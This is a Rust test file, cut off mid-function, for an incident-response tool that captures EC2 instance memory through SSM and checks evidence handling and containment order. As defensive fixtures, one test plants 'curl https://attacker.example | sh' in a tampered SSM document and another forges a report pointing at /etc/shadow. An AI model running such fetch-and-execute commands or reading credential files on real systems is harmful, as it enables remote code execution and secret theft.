//! An instance's memory, captured through Systems Manager. The emulator accepts SendCommand but
//! runs nothing and answers every invocation `Success` with no output, so SSM is answered by
//! aws-smithy-mocks playing the agent: it runs the scripts Firebreak sends, for real, in `sh`
//! (a stand-in tool writes the "image"; `curl` fetches the tool and PUTs the image to the
//! emulator's S3 with the signed headers). Everything else is the emulator. At the moment each
//! command is sent, the agent reads the instance's state from the emulator: the instance
//! playbook's order is checked there, not in Firebreak's report.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use aws_sdk_ssm::operation::get_command_invocation::GetCommandInvocationOutput;
use aws_sdk_ssm::operation::get_document::{GetDocumentError, GetDocumentOutput};
use aws_sdk_ssm::operation::send_command::{SendCommandError, SendCommandOutput};
use aws_sdk_ssm::types::{Command, CommandInvocationStatus};
use aws_smithy_mocks::{
    MockResponse, MockResponseInterceptor, RuleMode, create_mock_http_client, mock,
};
use firebreak_aws::Response;
use firebreak_core::action::memory;
use firebreak_core::{Config, Incident, Mode, Status, Triage};
use firebreak_testbed::moto::HOME_ACCOUNT;
use firebreak_testbed::seed;
use firebreak_testbed::template;
use firebreak_testbed::world::World;
use firebreak_testbed::{event, without_auto_scaling_group};
use sha2::{Digest, Sha256};

/// Stands in for AVML: writes a small "image" to its last argument.
const TOOL: &str =
    "#!/bin/sh\nfor last; do :; done\nprintf 'MEMORY OF %s\\n' \"$(hostname)\" > \"$last\"\n";

/// Tells one agent's `/proc/meminfo` from another's.
static MEMINFO: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

/// The instance as the emulator holds it when a command reaches it.
#[derive(Debug, Clone, PartialEq)]
struct Seen {
    protected: bool,
    snapshots: usize,
    groups: Vec<String>,
    profile: Option<String>,
}

/// What the agent was sent, ran and saw.
struct Agent {
    /// The instance's `MemTotal` in KiB: the scripts read it from a `/proc/meminfo` of the
    /// instance's own, not the test machine's.
    memory_kib: u64,
    /// The parameters of each command sent.
    scripts: Vec<HashMap<String, Vec<String>>>,
    seen: Vec<Seen>,
    /// Command id → (exit status 0, standard output, standard error).
    ran: HashMap<String, (bool, String, String)>,
    /// When set, the capture's output is replaced with this (a forged report).
    forged: Option<String>,
}

impl Default for Agent {
    fn default() -> Self {
        Agent {
            memory_kib: 64 * 1024,
            scripts: Vec::new(),
            seen: Vec::new(),
            ran: HashMap::new(),
            forged: None,
        }
    }
}

async fn seen(sdk: &aws_config::SdkConfig, instance_id: &str, tag: &str) -> Seen {
    let ec2 = aws_sdk_ec2::Client::new(sdk);
    let protected = ec2
        .describe_instance_attribute()
        .instance_id(instance_id)
        .attribute(aws_sdk_ec2::types::InstanceAttributeName::DisableApiTermination)
        .send()
        .await
        .unwrap()
        .disable_api_termination()
        .and_then(|v| v.value())
        == Some(true);
    let snapshots = ec2
        .describe_snapshots()
        .owner_ids("self")
        .filters(
            aws_sdk_ec2::types::Filter::builder()
                .name("tag:incident-response")
                .values(tag)
                .build(),
        )
        .send()
        .await
        .unwrap()
        .snapshots()
        .len();
    let instance = firebreak_aws::service::ec2::describe(&ec2, instance_id)
        .await
        .unwrap();
    let groups = instance
        .network_interfaces()
        .iter()
        .flat_map(|n| n.groups())
        .filter_map(|g| g.group_id().map(String::from))
        .collect();
    let profile = instance
        .iam_instance_profile()
        .and_then(|p| p.arn())
        .map(String::from);
    Seen {
        protected,
        snapshots,
        groups,
        profile,
    }
}

/// The memory document of a template (`infra/template.yaml` unless `template` is given), as
/// CloudFormation creates it for `sha` and the evidence bucket at `bucket_url`.
fn deployed_document(
    template: Option<&serde_yaml::Value>,
    sha: &str,
    bucket_url: &str,
) -> serde_json::Value {
    fn json(v: &serde_yaml::Value, sha: &str, url: &str) -> serde_json::Value {
        let sub = |text: &str| {
            text.replace(memory::TOOL_SHA256_PLACEHOLDER, sha)
                .replace(memory::BUCKET_URL_PLACEHOLDER, url)
        };
        match v {
            serde_yaml::Value::Tagged(t) if t.tag == "!Sub" => match &t.value {
                serde_yaml::Value::String(text) => {
                    assert!(!text.contains(memory::BUCKET_URL_PLACEHOLDER));
                    sub(text).into()
                }
                // The two-argument form: only the bucket's URL is given as a variable.
                serde_yaml::Value::Sequence(a) => {
                    let vars = a[1].as_mapping().expect("variables");
                    assert_eq!(vars.len(), 1);
                    assert!(vars.contains_key("EvidenceBucketUrl"));
                    sub(a[0].as_str().expect("a !Sub string")).into()
                }
                other => panic!("!Sub of {other:?}"),
            },
            serde_yaml::Value::Mapping(m) => m
                .iter()
                .map(|(k, v)| (k.as_str().expect("a key").to_string(), json(v, sha, url)))
                .collect::<serde_json::Map<_, _>>()
                .into(),
            serde_yaml::Value::Sequence(s) => s.iter().map(|v| json(v, sha, url)).collect(),
            serde_yaml::Value::String(s) => s.clone().into(),
            other => panic!("the document holds {other:?}"),
        }
    }
    let home = template::load();
    json(
        &template.unwrap_or(&home)["Resources"]["MemoryDocument"]["Properties"]["Content"],
        sha,
        bucket_url,
    )
}

/// The evidence bucket's URL on the emulator, as Firebreak's signed URLs name it.
fn bucket_url(w: &World) -> String {
    format!(
        "{}/{}",
        w.sdk.endpoint_url().expect("the emulator's endpoint"),
        w.stack.bucket
    )
}

/// SSM's own client to the emulator (where the document lives), on a thread of its own: the
/// agent's answers are computed synchronously.
fn on_emulator<T: Send + 'static>(
    sdk: &aws_config::SdkConfig,
    f: impl FnOnce(
        aws_sdk_ssm::Client,
    ) -> std::pin::Pin<Box<dyn std::future::Future<Output = T> + Send>>
    + Send
    + 'static,
) -> T {
    let ssm = aws_sdk_ssm::Client::new(sdk);
    std::thread::spawn(move || tokio::runtime::Runtime::new().unwrap().block_on(f(ssm)))
        .join()
        .unwrap()
}

/// What SSM runs for a command: the document version's steps with the parameters put in, each
/// checked against its pattern first (SSM refuses the command otherwise).
fn render(
    document: &serde_json::Value,
    given: &HashMap<String, Vec<String>>,
) -> Result<String, String> {
    let declared = document["parameters"].as_object().expect("parameters");
    for name in given.keys() {
        if !declared.contains_key(name) {
            return Err(format!("{name} is not a parameter of the document"));
        }
    }
    let step = &document["mainSteps"][0]["inputs"];
    let mut text = step["runCommand"]
        .as_array()
        .expect("runCommand")
        .iter()
        .map(|l| l.as_str().expect("a line"))
        .collect::<Vec<_>>()
        .join("\n");
    for (name, spec) in declared {
        let value = match (given.get(name).map(|v| v.as_slice()), spec.get("default")) {
            (Some([value]), _) => value.clone(),
            (None, Some(default)) => default.as_str().expect("a default").to_string(),
            _ => return Err(format!("{name} has no value")),
        };
        let ok = match (spec.get("allowedPattern"), spec.get("allowedValues")) {
            (Some(p), _) => regex::Regex::new(p.as_str().unwrap())
                .unwrap()
                .is_match(&value),
            (None, Some(values)) => values.as_array().unwrap().iter().any(|v| v == &value),
            _ => true,
        };
        if !ok {
            return Err(format!("{name} = {value:?} does not match its pattern"));
        }
        text = text.replace(&format!("{{{{ {name} }}}}"), &value);
    }
    assert!(step["timeoutSeconds"].is_string());
    Ok(text)
}

/// GetDocument answered by the emulator, where the test deployed the document.
fn document_rule(sdk: aws_config::SdkConfig) -> aws_smithy_mocks::Rule {
    mock!(aws_sdk_ssm::Client::get_document).then_compute_response(move |input| {
        let name = input.name().unwrap_or_default().to_string();
        let got = on_emulator(&sdk, move |ssm| {
            Box::pin(async move {
                ssm.get_document()
                    .name(name)
                    .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
                    .send()
                    .await
            })
        });
        match got {
            Ok(got) => MockResponse::Output(
                GetDocumentOutput::builder()
                    .set_name(got.name().map(String::from))
                    .set_content(got.content().map(String::from))
                    .set_document_version(got.document_version().map(String::from))
                    .set_document_type(got.document_type().cloned())
                    .set_status(got.status().cloned())
                    .build(),
            ),
            Err(e)
                if e.as_service_error()
                    .is_some_and(|e| e.is_invalid_document()) =>
            {
                MockResponse::Error(GetDocumentError::InvalidDocument(
                    aws_sdk_ssm::types::error::InvalidDocument::builder()
                        .message("the document does not exist")
                        .build(),
                ))
            }
            Err(e) => panic!("{e:?}"),
        }
    })
}

/// An SSM client answered by the agent: each command runs, as SSM would run it, in `sh` when it
/// is sent; the document is read from the emulator (the version Firebreak names).
/// `first`, when given, answers the first invocation reads before the agent does.
fn ssm_agent(
    agent: Arc<Mutex<Agent>>,
    sdk: aws_config::SdkConfig,
    instance_id: String,
    tag: String,
    first: Option<aws_smithy_mocks::Rule>,
) -> firebreak_aws::Lazy<aws_sdk_ssm::Client> {
    let document = document_rule(sdk.clone());
    let sent = {
        let agent = agent.clone();
        mock!(aws_sdk_ssm::Client::send_command).then_compute_response(move |input| {
            assert_eq!(input.document_name(), Some(memory::DOCUMENT_NAME));
            assert_eq!(input.instance_ids(), std::slice::from_ref(&instance_id));
            let (name, version) = (
                memory::DOCUMENT_NAME.to_string(),
                input.document_version().expect("a version").to_string(),
            );
            let content = on_emulator(&sdk, move |ssm| {
                Box::pin(async move {
                    ssm.get_document()
                        .name(name)
                        .document_version(version)
                        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
                        .send()
                        .await
                        .expect("the version sent exists")
                        .content()
                        .map(String::from)
                        .expect("content")
                })
            });
            let document: serde_json::Value = serde_json::from_str(&content).unwrap();
            let script = match render(&document, input.parameters().expect("parameters")) {
                Ok(script) => script,
                Err(why) => {
                    return MockResponse::Error(SendCommandError::InvalidParameters(
                        aws_sdk_ssm::types::error::InvalidParameters::builder()
                            .message(why)
                            .build(),
                    ));
                }
            };
            // The instance as it is now, read from the emulator on a thread of its own.
            let (sdk, id, tag) = (sdk.clone(), instance_id.clone(), tag.clone());
            let state = std::thread::spawn(move || {
                tokio::runtime::Runtime::new()
                    .unwrap()
                    .block_on(seen(&sdk, &id, &tag))
            })
            .join()
            .unwrap();
            let memory_kib = agent.lock().unwrap().memory_kib;
            let meminfo = std::env::temp_dir().join(format!(
                "firebreak-test-meminfo-{}-{}",
                std::process::id(),
                MEMINFO.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
            ));
            std::fs::write(&meminfo, format!("MemTotal:       {memory_kib} kB\n")).unwrap();
            assert!(script.contains("/proc/meminfo"));
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(script.replace("/proc/meminfo", &meminfo.to_string_lossy()))
                .output()
                .expect("sh");
            let _ = std::fs::remove_file(&meminfo);
            let mut agent = agent.lock().unwrap();
            let command_id = format!("command-{}", agent.scripts.len());
            let mut stdout = String::from_utf8_lossy(&out.stdout).to_string();
            if agent.scripts.is_empty()
                && let Some(forged) = agent.forged.clone()
            {
                stdout = forged;
            }
            agent.ran.insert(
                command_id.clone(),
                (
                    out.status.success(),
                    stdout,
                    String::from_utf8_lossy(&out.stderr).to_string(),
                ),
            );
            let parameters = input.parameters().cloned().unwrap_or_default();
            agent.scripts.push(parameters);
            agent.seen.push(state);
            MockResponse::Output(
                SendCommandOutput::builder()
                    .command(Command::builder().command_id(command_id).build())
                    .build(),
            )
        })
    };
    let read =
        mock!(aws_sdk_ssm::Client::get_command_invocation).then_compute_output(move |input| {
            let agent = agent.lock().unwrap();
            let (ok, stdout, stderr) = agent.ran[input.command_id().unwrap_or_default()].clone();
            GetCommandInvocationOutput::builder()
                .status(if ok {
                    CommandInvocationStatus::Success
                } else {
                    CommandInvocationStatus::Failed
                })
                .standard_output_content(stdout)
                .standard_error_content(stderr)
                .build()
        });
    let mut interceptor = MockResponseInterceptor::new()
        .rule_mode(RuleMode::MatchAny)
        .with_rule(&document)
        .with_rule(&sent);
    if let Some(first) = &first {
        interceptor = interceptor.with_rule(first);
    }
    mocked_ssm(interceptor.with_rule(&read))
}

/// A responder whose SSM is `agent`, on `server` of `incident`.
fn with_agent(
    w: &World,
    config: Config,
    agent: &Arc<Mutex<Agent>>,
    server: &seed::Server,
    incident: &Incident,
    first: Option<aws_smithy_mocks::Rule>,
) -> firebreak_aws::Responder {
    let mut responder = w.responder(config);
    responder.home.ssm = ssm_agent(
        agent.clone(),
        w.sdk.clone(),
        server.instance_id.clone(),
        incident.id.quarantine_tag(),
        first,
    );
    responder
}

fn mocked_ssm(interceptor: MockResponseInterceptor) -> firebreak_aws::Lazy<aws_sdk_ssm::Client> {
    aws_sdk_ssm::Client::from_conf(
        aws_sdk_ssm::Config::builder()
            .with_test_defaults()
            .region(aws_sdk_ssm::config::Region::new("us-east-1"))
            .http_client(create_mock_http_client())
            .interceptor(interceptor)
            .build(),
    )
    .into()
}

/// A server of the home account, its finding, and (with a tool) the tool stored where Firebreak
/// fetches it and Firebreak's document deployed.
async fn instance_incident(
    w: &World,
    name: &str,
    tool: Option<&str>,
) -> (seed::Server, Config, Incident, String) {
    let server = seed::server(&w.sdk, name).await;
    let mut e = event("gd-ec2-bitcoin-tool-dns.json");
    e["detail"]["accountId"] = HOME_ACCOUNT.into();
    e["detail"]["region"] = "us-east-1".into();
    let details = &mut e["detail"]["resource"]["instanceDetails"];
    details["instanceId"] = server.instance_id.clone().into();
    details["iamInstanceProfile"]["arn"] = server.profile_arn.clone().into();
    without_auto_scaling_group(&mut e);
    let mut config = w.config();
    config.modes.instance_isolation = Mode::Auto;
    if let Some(tool) = tool {
        seed::s3_client(&w.sdk)
            .put_object()
            .bucket(&w.stack.bucket)
            .key(firebreak_core::config::memory_tool_key(&hex(
                &Sha256::digest(tool.as_bytes()),
            )))
            .body(tool.as_bytes().to_vec().into())
            .checksum_algorithm(aws_sdk_s3::types::ChecksumAlgorithm::Sha256)
            .send()
            .await
            .expect("the tool stored");
        config.evidence.memory_tool_sha256 = hex(&Sha256::digest(tool.as_bytes()));
        // The document the stack deploys, as the stack writes it.
        aws_sdk_ssm::Client::new(&w.sdk)
            .create_document()
            .name(memory::DOCUMENT_NAME)
            .document_type(aws_sdk_ssm::types::DocumentType::Command)
            .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
            .content(
                deployed_document(None, &config.evidence.memory_tool_sha256, &bucket_url(w))
                    .to_string(),
            )
            .send()
            .await
            .expect("the document created");
    }
    let text = e.to_string();
    let incident = match Triage::new(config.clone())
        .unwrap()
        .triage_json(&text)
        .unwrap()
    {
        firebreak_core::Decision::Incident(i) => *i,
        other => panic!("{other:?}"),
    };
    (server, config, incident, text)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn status_of<'a>(r: &'a Response, kind: &str) -> &'a Status {
    &r.outcomes
        .iter()
        .find(|o| o.kind == kind)
        .unwrap_or_else(|| panic!("no {kind} in {:?}", r.outcomes))
        .status
}

#[tokio::test]
async fn memory_is_captured_after_termination_protection_and_before_anything_cuts_the_instance_off()
{
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "web", Some(TOOL)).await;
    let agent = Arc::new(Mutex::new(Agent::default()));
    let responder = with_agent(&w, config.clone(), &agent, &server, &incident, None);
    let r = responder.respond(&incident, &text).await;

    let kinds: Vec<&str> = r.outcomes.iter().map(|o| o.kind.as_str()).collect();
    let at = |k: &str| kinds.iter().position(|x| *x == k).unwrap();
    assert!(at("protect_instance") < at("snapshot_volumes"), "{kinds:?}");
    assert!(at("snapshot_volumes") < at("capture_memory"), "{kinds:?}");
    let Status::Done { detail } = status_of(&r, "capture_memory") else {
        let agent = agent.lock().unwrap();
        panic!(
            "{:?}\n{:?}\n{:?}",
            status_of(&r, "capture_memory"),
            agent.scripts,
            agent.ran
        );
    };

    // Both commands found the instance protected and its volumes already snapshotted (as the
    // attacker left them, before the image was written), but not yet isolated or given the
    // quarantine profile: its network and credentials were still there for the agent.
    let (scripts, seen_at_send, ran) = {
        let agent = agent.lock().unwrap();
        (agent.scripts.clone(), agent.seen.clone(), agent.ran.clone())
    };
    assert_eq!(scripts.len(), 2, "a capture, then an upload");
    for seen in &seen_at_send {
        assert_eq!(
            seen,
            &Seen {
                protected: true,
                snapshots: 2,
                groups: vec![server.original_group.clone()],
                profile: Some(server.profile_arn.clone()),
            }
        );
    }
    // ... and after the response every later step did happen.
    let after = seen(&w.sdk, &server.instance_id, &incident.id.quarantine_tag()).await;
    assert!(after.groups != [server.original_group.clone()]);

    // The image is in the evidence store, locked, with the bytes the instance hashed, and the
    // manifest lists it; the instance's copy is gone.
    let item = r
        .items
        .iter()
        .find(|i| i.kind == "memory")
        .unwrap_or_else(|| panic!("no memory item in {:?}", r.items));
    assert!(detail.contains(&item.key), "{detail}");
    assert_eq!(
        image_reads(&w),
        Vec::<String>::new(),
        "adopted from the listing"
    );
    let s3 = seed::s3_client(&w.sdk);
    let object = s3
        .get_object()
        .bucket(&w.stack.bucket)
        .key(&item.key)
        .send()
        .await
        .expect("the image");
    assert_eq!(
        object
            .object_lock_retain_until_date()
            .map(aws_smithy_types::DateTime::secs),
        Some(item.retain_until.timestamp()),
        "locked until the date recorded"
    );
    let bytes = object.body.collect().await.unwrap().into_bytes();
    assert!(bytes.starts_with(b"MEMORY OF "), "{bytes:?}");
    assert_eq!(item.sha256, hex(&Sha256::digest(&bytes)));
    assert_eq!(item.size, bytes.len() as u64);
    let manifest = r.manifest.as_ref().expect("a manifest");
    let listed = w.read_json(&manifest.key).await;
    assert!(
        listed.to_string().contains(&item.key),
        "the manifest lists the image"
    );
    let image = firebreak_core::action::memory::parse_report(&ran["command-0"].1).unwrap();
    assert!(
        !std::path::Path::new(&image.path).exists(),
        "the upload removes the instance's copy"
    );
    // Firebreak's document ran twice, with only Firebreak-signed URLs among its parameters.
    let step = |i: usize| scripts[i]["Step"][0].as_str();
    assert_eq!((step(0), step(1)), ("capture", "upload"));
    assert!(scripts[0]["ToolQuery"][0].contains("X-Amz-Signature="));
    assert!(scripts[1]["UploadQuery"][0].contains("X-Amz-Signature="));
    assert_eq!(scripts[1]["Image"][0], image.path);
}

/// The document the templates deploy is Firebreak's, in the home stack and in every forwarder.
#[test]
fn the_templates_deploy_firebreaks_document() {
    let sha = "ab".repeat(32);
    let url = "https://s3.eu-west-1.amazonaws.com/fb-evidencebucket-1a2b3c";
    let firebreaks = memory::document(&sha, url).unwrap();
    assert_eq!(deployed_document(None, &sha, url), firebreaks);
    assert_eq!(
        deployed_document(Some(&template::forwarder()), &sha, url),
        firebreaks,
        "run python3 infra/gen_patterns.py"
    );
}

/// A document changed in the account (a new default version running other steps) is never run,
/// and a missing one is reported, not skipped: memory would otherwise go uncaptured quietly.
#[tokio::test]
async fn a_changed_or_missing_document_is_never_run_and_says_so() {
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "doc", Some(TOOL)).await;
    let ssm = aws_sdk_ssm::Client::new(&w.sdk);
    let mut changed = deployed_document(None, &config.evidence.memory_tool_sha256, &bucket_url(&w));
    changed["mainSteps"][0]["inputs"]["runCommand"][0] =
        "curl https://attacker.example | sh".into();
    let updated = ssm
        .update_document()
        .name(memory::DOCUMENT_NAME)
        .document_version("$LATEST")
        .document_format(aws_sdk_ssm::types::DocumentFormat::Json)
        .content(changed.to_string())
        .send()
        .await
        .expect("updated");
    let version = updated
        .document_description()
        .and_then(|d| d.document_version())
        .expect("a version")
        .to_string();
    ssm.update_document_default_version()
        .name(memory::DOCUMENT_NAME)
        .document_version(version)
        .send()
        .await
        .expect("made the default");
    let agent = Arc::new(Mutex::new(Agent::default()));
    let responder = with_agent(&w, config.clone(), &agent, &server, &incident, None);
    let r = responder.respond(&incident, &text).await;
    assert_not_captured(&r, &agent, "other than Firebreak's", 0);

    ssm.delete_document()
        .name(memory::DOCUMENT_NAME)
        .send()
        .await
        .expect("deleted");
    let r = responder.respond(&incident, &text).await;
    assert!(
        matches!(status_of(&r, "capture_memory"),
            Status::Failed { code, message } if code == "MemoryNotCaptured"
                && message.contains("no Firebreak-CaptureMemory document")),
        "{:?}",
        r.outcomes
    );
    assert!(agent.lock().unwrap().scripts.is_empty(), "nothing was sent");
}

#[tokio::test]
async fn memory_is_skipped_with_the_reason_where_it_cannot_be_captured() {
    let w = World::new().await;
    // No tool configured: nothing is sent.
    let (_, config, incident, text) = instance_incident(&w, "untooled", None).await;
    let agent = Arc::new(Mutex::new(Agent::default()));
    let mut responder = w.responder(config);
    responder.home.ssm = ssm_agent(
        agent.clone(),
        w.sdk.clone(),
        String::new(),
        String::new(),
        None,
    );
    let r = responder.respond(&incident, &text).await;
    assert!(
        matches!(status_of(&r, "capture_memory"), Status::Skipped { why } if why.contains("no memory tool")),
        "{:?}",
        r.outcomes
    );
    assert!(agent.lock().unwrap().scripts.is_empty());

    // No agent online: SSM refuses the command, the step is skipped and the rest goes on.
    let (_, config, incident, text) = instance_incident(&w, "offline", Some(TOOL)).await;
    let offline = mock!(aws_sdk_ssm::Client::send_command).then_error(|| {
        SendCommandError::InvalidInstanceId(
            aws_sdk_ssm::types::error::InvalidInstanceId::builder()
                .message("Instances not in a valid state for account")
                .build(),
        )
    });
    let mut responder = w.responder(config);
    responder.home.ssm = mocked_ssm(
        MockResponseInterceptor::new()
            .rule_mode(RuleMode::MatchAny)
            .with_rule(&document_rule(w.sdk.clone()))
            .with_rule(&offline),
    );
    let r = responder.respond(&incident, &text).await;
    assert!(
        matches!(status_of(&r, "capture_memory"), Status::Skipped { why } if why.contains("no SSM agent is online")),
        "{:?}",
        r.outcomes
    );
    assert!(matches!(
        status_of(&r, "isolate_instance"),
        Status::Done { .. }
    ));
}

/// Whatever the instance prints is the attacker's: a report naming another file is refused, and
/// nothing is uploaded.
#[tokio::test]
async fn a_forged_capture_report_uploads_nothing() {
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "forged", Some(TOOL)).await;
    let agent = Arc::new(Mutex::new(Agent {
        forged: Some(format!(
            "firebreak-memory /etc/shadow 100 {}\n",
            "ab".repeat(32)
        )),
        ..Agent::default()
    }));
    let responder = with_agent(&w, config, &agent, &server, &incident, None);
    let r = responder.respond(&incident, &text).await;
    assert_not_captured(&r, &agent, "outside its own directory", 1);
}

/// Whoever may write evidence (a Firebreak role, a named responder) created the image's key
/// first, with other bytes of the same size: S3 refuses the instance's PUT, and Firebreak
/// neither adopts what it finds there nor reads it back to see, and pages it as a conflict.
#[tokio::test]
async fn an_image_key_taken_first_is_never_adopted_and_no_image_is_read_back() {
    let w = World::new().await;
    let tool = "#!/bin/sh\nfor last; do :; done\nprintf 'MEMORY FIXED\\n' > \"$last\"\n";
    let (server, config, incident, text) = instance_incident(&w, "taken", Some(tool)).await;
    let sha = hex(&Sha256::digest(b"MEMORY FIXED\n"));
    let key = format!("incidents/{}/memory/{}.lime", incident.id, &sha[..16]);
    let s3 = seed::s3_client(&w.sdk);
    s3.put_object()
        .bucket(&w.stack.bucket)
        .key(&key)
        .body(b"MEMORY FORGE\n".to_vec().into())
        .if_none_match("*")
        .send()
        .await
        .expect("the key taken");
    // S3 lists whole seconds: taken a moment before the capture.
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    let agent = Arc::new(Mutex::new(Agent::default()));
    let responder = with_agent(&w, config, &agent, &server, &incident, None);
    let r = responder.respond(&incident, &text).await;
    assert!(
        matches!(status_of(&r, "capture_memory"),
            Status::Failed { code, message } if code == "EvidenceConflict"
                && message.contains("created before Firebreak signed its upload")
                && message.contains("the image stays at")),
        "{:?}",
        r.outcomes
    );
    assert_eq!(agent.lock().unwrap().scripts.len(), 2, "capture and upload");
    assert!(!r.items.iter().any(|i| i.kind == "memory"));
    let versions = s3
        .list_object_versions()
        .bucket(&w.stack.bucket)
        .prefix(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(versions.versions().len(), 1, "only what was planted");
    assert_eq!(image_reads(&w), Vec::<String>::new());
}

/// Every GET or HEAD of a memory image the emulator served.
fn image_reads(w: &World) -> Vec<String> {
    w.moto
        .requests()
        .into_iter()
        .filter(|r| {
            let mut words = r.split(' ');
            matches!(words.next(), Some("GET" | "HEAD"))
                && words
                    .next()
                    .and_then(|target| target.split('?').next())
                    .is_some_and(|path| path.contains("/memory/"))
        })
        .collect()
}

/// The capture failed saying `why`, after `sent` commands (none was an upload unless the
/// capture's was), nothing was listed as memory, and containment went on: evidence failing never
/// holds it back.
fn assert_not_captured(r: &Response, agent: &Arc<Mutex<Agent>>, why: &str, sent: usize) {
    assert!(
        matches!(status_of(r, "capture_memory"),
            Status::Failed { code, message } if code == "MemoryNotCaptured"
                && message.contains(why)),
        "{:?}",
        r.outcomes
    );
    assert_eq!(
        agent.lock().unwrap().scripts.len(),
        sent,
        "no upload was sent"
    );
    assert!(!r.items.iter().any(|i| i.kind == "memory"));
    assert!(matches!(
        status_of(r, "isolate_instance"),
        Status::Done { .. }
    ));
}

/// An instance with more memory than free disk: the capture stops before it fetches the tool,
/// says why, and leaves no directory behind.
#[tokio::test]
async fn an_instance_without_room_for_its_memory_is_not_captured_and_says_why() {
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "full", Some(TOOL)).await;
    let agent = Arc::new(Mutex::new(Agent {
        memory_kib: 1 << 50,
        ..Agent::default()
    }));
    let responder = with_agent(&w, config, &agent, &server, &incident, None);
    let r = responder.respond(&incident, &text).await;
    assert_not_captured(&r, &agent, "no room for the image", 1);
}

/// Deployed, contain and preserve run at once. Contain changes the instance (its load balancers,
/// profile, sessions, network) only once preserve has taken its memory and snapshots: at both
/// commands the instance still has its network and credentials, and afterwards it is contained.
#[tokio::test]
async fn deployed_contain_waits_for_the_memory_before_it_changes_the_instance() {
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "split", Some(TOOL)).await;
    let agent = Arc::new(Mutex::new(Agent::default()));
    let preserve = with_agent(&w, config.clone(), &agent, &server, &incident, None);
    let contain = w.responder(config.clone());
    let (contained, preserved) = tokio::join!(
        contain.respond_stage(&incident, &text, firebreak_core::Stage::Contain),
        preserve.respond_stage(&incident, &text, firebreak_core::Stage::Preserve),
    );
    assert!(
        matches!(status_of(&preserved, "capture_memory"), Status::Done { .. }),
        "{:?}",
        preserved.outcomes
    );
    let seen_at_send = agent.lock().unwrap().seen.clone();
    assert_eq!(seen_at_send.len(), 2, "a capture, then an upload");
    for seen in &seen_at_send {
        assert_eq!(
            seen.groups,
            std::slice::from_ref(&server.original_group),
            "not yet isolated"
        );
        assert_eq!(seen.profile.as_deref(), Some(server.profile_arn.as_str()));
        assert!(seen.protected);
    }
    for kind in ["quarantine_instance_profile", "isolate_instance"] {
        assert!(
            matches!(status_of(&contained, kind), Status::Done { detail } if !detail.contains("never confirmed")),
            "{:?}",
            contained.outcomes
        );
    }
    let after = seen(&w.sdk, &server.instance_id, &incident.id.quarantine_tag()).await;
    assert_ne!(
        after.groups,
        std::slice::from_ref(&server.original_group),
        "isolated in the end"
    );
}

/// When preserve never says it has taken the instance's evidence (it failed before its mark, or
/// never ran), contain does not wait forever: after its bound (a minute, with no memory tool) it
/// cuts the instance off anyway and says so in those outcomes; what does not cut the agent ran
/// at once and says nothing of it.
#[tokio::test]
async fn contain_without_preserve_cuts_the_instance_off_after_its_bound_and_says_so() {
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "alone", None).await;
    let contained = w
        .responder(config)
        .respond_stage(&incident, &text, firebreak_core::Stage::Contain)
        .await;
    for kind in ["quarantine_instance_profile", "isolate_instance"] {
        assert!(
            matches!(status_of(&contained, kind), Status::Done { detail } if detail.contains("never confirmed")),
            "{:?}",
            contained.outcomes
        );
    }
    assert!(
        matches!(status_of(&contained, "tag_quarantine"), Status::Done { detail } if !detail.contains("never confirmed")),
        "{:?}",
        contained.outcomes
    );
    let after = seen(&w.sdk, &server.instance_id, &incident.id.quarantine_tag()).await;
    assert_ne!(after.groups, std::slice::from_ref(&server.original_group));
    assert!(!after.protected, "preserve never ran");
}

/// SSM can read an invocation only a moment after SendCommand, and says `InProgress` until the
/// script ends: the step waits through both and ends done.
#[tokio::test]
async fn the_memory_step_waits_for_an_invocation_not_yet_readable_then_in_progress() {
    use aws_sdk_ssm::operation::get_command_invocation::GetCommandInvocationError;
    let w = World::new().await;
    let (server, config, incident, text) = instance_incident(&w, "slow", Some(TOOL)).await;
    let agent = Arc::new(Mutex::new(Agent::default()));
    let pending = mock!(aws_sdk_ssm::Client::get_command_invocation)
        .sequence()
        .error(|| {
            GetCommandInvocationError::InvocationDoesNotExist(
                aws_sdk_ssm::types::error::InvocationDoesNotExist::builder().build(),
            )
        })
        .output(|| {
            GetCommandInvocationOutput::builder()
                .status(CommandInvocationStatus::InProgress)
                .build()
        })
        .times(2)
        .build();
    let responder = with_agent(
        &w,
        config,
        &agent,
        &server,
        &incident,
        Some(pending.clone()),
    );
    let r = responder.respond(&incident, &text).await;
    assert!(
        matches!(status_of(&r, "capture_memory"), Status::Done { .. }),
        "{:?}",
        r.outcomes
    );
    assert_eq!(
        pending.num_calls(),
        3,
        "not yet readable, then in progress twice"
    );
    assert_eq!(agent.lock().unwrap().scripts.len(), 2);
}

/// A capture still running at its bound: the step fails there and says so, no upload is sent,
/// and containment goes on (the instance is isolated).
#[tokio::test]
async fn a_capture_still_running_at_its_bound_fails_and_containment_goes_on() {
    let w = World::new().await;
    let (server, mut config, incident, text) = instance_incident(&w, "stuck", Some(TOOL)).await;
    config.evidence.memory_seconds = 30;
    let agent = Arc::new(Mutex::new(Agent::default()));
    let running = mock!(aws_sdk_ssm::Client::get_command_invocation)
        .sequence()
        .output(|| {
            GetCommandInvocationOutput::builder()
                .status(CommandInvocationStatus::InProgress)
                .build()
        })
        .repeatedly()
        .build();
    let responder = with_agent(
        &w,
        config,
        &agent,
        &server,
        &incident,
        Some(running.clone()),
    );
    let r = responder.respond(&incident, &text).await;
    assert_not_captured(&r, &agent, "the capture was still running after 30 s", 1);
    assert!(running.num_calls() > 2, "polled until the bound");
}

/// The upload step sends only the image the capture wrote: a link in its place (a local user's
/// way to have root upload another file), another size, or an empty signed header is refused
/// before any PUT.
#[test]
fn the_upload_step_refuses_anything_but_the_captured_image() {
    use std::os::unix::fs::PermissionsExt;
